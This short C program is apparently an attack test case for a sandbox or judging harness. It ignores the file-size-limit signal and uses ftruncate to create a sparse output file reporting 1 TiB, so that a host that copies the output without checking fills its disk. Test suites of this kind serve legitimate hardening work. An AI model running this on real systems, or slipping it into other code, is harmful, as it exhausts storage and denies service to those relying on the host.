/* An output file that says it has 1 TiB: whoever copies it blindly fills the host. */
#include "attack.h"
int main(void) {
    unlink("output.txt");
    signal(SIGXFSZ, SIG_IGN);
    int fd = open("output.txt", O_RDWR | O_CREAT, 0600);
    if (fd < 0) return 1;
    if (ftruncate(fd, 1L << 40)) errno = 0;
    return 0;
}
